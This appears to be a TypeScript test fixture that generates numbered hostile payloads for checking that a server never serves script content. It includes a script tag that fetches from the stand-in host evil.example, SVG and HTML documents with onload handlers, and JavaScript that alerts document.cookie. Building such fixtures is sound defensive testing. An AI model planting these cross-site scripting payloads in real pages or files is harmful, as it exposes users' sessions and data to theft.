/** What must never be served: a script in any form. Each file contains it with its own number. */
export const canary = (number: number): string => `hostile-mark-${number}-`;
export const script = (number: number): string => `<script>fetch("//evil.example/${canary(number)}")</script>`;
export const svg = (number: number): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${canary(number)}')">${script(number)}</svg>`;
export const html = (number: number): string =>
  `<!doctype html><html><body onload="alert(1)">${script(number)}</body></html>`;
export const js = (number: number): string => `/*${canary(number)}*/alert(document.cookie)//`;
